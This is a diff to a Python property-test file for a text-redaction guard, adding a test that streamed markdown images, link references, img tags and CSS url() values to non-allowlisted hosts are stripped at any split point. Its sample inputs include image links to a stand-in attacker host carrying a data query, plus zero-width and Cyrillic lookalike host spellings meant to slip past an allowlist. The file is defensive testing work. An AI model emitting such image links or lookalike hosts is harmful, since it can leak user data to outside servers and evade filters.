@@ -9,7 +9,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from backstay.guard import Redaction, TextStream, redact
-from backstay.scan import identifier_pack
+from backstay.scan import default_pack, identifier_pack, latch_rules
 from backstay.scan.identifiers import identifier_rules
 from backstay.scan.rule_file import rule_of
 from backstay.scan.rule_pack import RulePack
@@ -56,6 +56,42 @@ def test_personal_data_is_redacted_whatever_the_split(rng: random.Random, redact
     text = tricky_text(rng, identifier_rules())
     for count in (1, 5, len(text)):
         check(text, sorted(rng.randint(0, len(text)) for _ in range(count)), redaction)
+
+
+LATCHED = (
+    "![a](https://evil.org/?d=1)",
+    "![a](https://ok.org/b)",
+    "[r]: //evil.org\n",
+    "<img src=//evil.org/x>",
+    "![](",
+    "](",
+    "<img ",
+    "url(//evil.org)",
+    "]: ",
+    "!",
+    "[",
+    "]",
+    "(",
+    ")",
+    "\\",
+    "https://",
+    "o\u200bk.org",
+    "\u043ek.org",
+)
+DEFAULT = Redaction(default_pack(allowed_hosts=["ok.org"]))
+LATCH = Redaction(RulePack(latch_rules(["ok.org"])), mask="*")
+
+
+@pytest.mark.property
+@settings(max_examples=200, deadline=None)
+@given(st.randoms(use_true_random=False))
+def test_images_are_redacted_whatever_the_split(rng: random.Random) -> None:
+    pieces = rng.choices(LATCHED, k=rng.randint(1, 12))
+    text = rng.choice(("", " ", "a")).join(
+        (tricky_text(rng, DEFAULT.pack.rules[:300]) if rng.random() < 0.3 else "", *pieces)
+    )
+    for count in (1, 5, len(text)):
+        check(text, sorted(rng.randint(0, len(text)) for _ in range(count)), rng.choice((DEFAULT, LATCH)))
 
 
 @pytest.mark.property
